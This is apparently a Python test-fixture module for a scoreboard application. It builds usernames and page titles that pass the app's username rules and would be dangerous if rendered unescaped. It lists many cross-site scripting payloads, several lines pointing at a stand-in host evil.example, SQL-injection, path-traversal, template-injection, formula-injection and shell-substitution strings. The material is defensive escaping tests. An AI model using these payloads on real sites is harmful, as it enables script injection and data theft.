"""Names that are allowed as usernames and would do harm wherever a page takes them for markup or code."""

from itertools import chain, product

from scoreboard.domain.player import fold_username, username_fault

CALL = "pwn()"
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "video src",
    "audio src",
    "iframe",
    "input autofocus",
    "p",
    "a",
    "table",
    "td",
    "b",
)
_EVENTS = ("onerror", "onload", "onfocus", "onclick", "onmouseover", "onpointerenter", "ontoggle", "onstart", "onwheel")
_FORMS = ("<{} {}={}>", "<{}/{}={}>", "<{} {}='{}'>", '"><{} {}={}>', "<{}\u00a0{}={}>")
_BY_HAND = (
    "<script>pwn()</script>",
    "<SCRIPT>pwn()</SCRIPT>",
    "<script src=//evil.example></script>"[:32],
    "</script><script>pwn()</script>",
    "</title><script>pwn()</script>",
    "</td></tr></table><svg onload=1>",
    "</textarea><img src=x>",
    "<iframe src=javascript:pwn()>",
    "<iframe srcdoc=<b>pwn</b>>",
    "<a href=javascript:pwn()>x</a>",
    "<object data=javascript:pwn()>",
    "<embed src=javascript:pwn()>",
    "<form action=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=import href=//evil>",
    "<style>*{display:none}</style>",
    "<meta name=referrer content=x>",
    "<img src=//evil.example/a>",
    "<img srcset=//evil.example/b>",
    "<video poster=//evil.example>",
    "<svg><use href=//evil.example>",
    "<details open ontoggle=pwn()>",
    "<marquee onstart=pwn()>",
    "<math><mi xlink:href=//evil>",
    "<template><b>pwn</b></template>",
    "<x onfocus=pwn() tabindex=1>",
    "<img id=rows>",
    "<form id=rows>",
    "<input name=attributes>",
    "<!--",
    "--><img src=x>",
    "<![CDATA[<img src=x>]]>",
    "<?php pwn(); ?>",
    "<%= pwn() %>",
    "javascript:pwn()",
    "data:text/html,<b>pwn</b>",
    "'-pwn()-'",
    '"-pwn()-"',
    "`${pwn()}`",
    "${pwn()}",
    "#{pwn()}",
    "{{pwn()}}",
    "{{7*7}}",
    "{{constructor.constructor}}",
    "[[${pwn()}]]",
    "\\x3cimg src=x\\x3e",
    "\\u003cimg src=x\\u003e",
    "\\074img src=x\\076",
    "&lt;img src=x&gt;",
    "&#60;img src=x&#62;",
    "&#x3c;b&#x3e;",
    "&amp;lt;b&amp;gt;",
    "%3Cimg src=x%3E",
    "%253Cimg%253E",
    "＜img src=x＞",
    "‹script›pwn()‹/script›",
    "__proto__",
    "constructor",
    "toString",
    "hasOwnProperty",
    "=HYPERLINK(A1)",
    "@SUM(A1:A9)",
    "' OR '1'='1",
    "; DROP TABLE players;--",
    "../../etc/passwd",
    "%s%s%n",
    "$(pwn)",
    "| pwn",
    "?board=main&x=<b>",
    "#<img src=x>",
    "null",
    "undefined",
    "NaN",
    "[object Object]",
)


def hostile_names(number: int) -> list[str]:
    """So many different names that our own rules for usernames allow."""
    made = (form.format(tag, event, CALL) for form, event, tag in product(_FORMS, _EVENTS, _TAGS))
    names: dict[str, str] = {}
    for name in chain(_BY_HAND, made):
        if username_fault(name) is None:
            names.setdefault(fold_username(name), name)
        if len(names) == number:
            return list(names.values())
    raise AssertionError(f"only {len(names)} of these names are allowed")


def hostile_titles() -> list[str]:
    """Longer ones: what an operator declares is not bound by the rules for usernames."""
    return [
        "<img src=x onerror=pwn()><script>pwn()</script>",
        "\"><svg onload=pwn()><iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
        "</title></head><body onload=pwn()><img src=//evil.example/title>",
        "<a href=javascript:pwn()>All players</a><base href=//evil.example>",
    ]
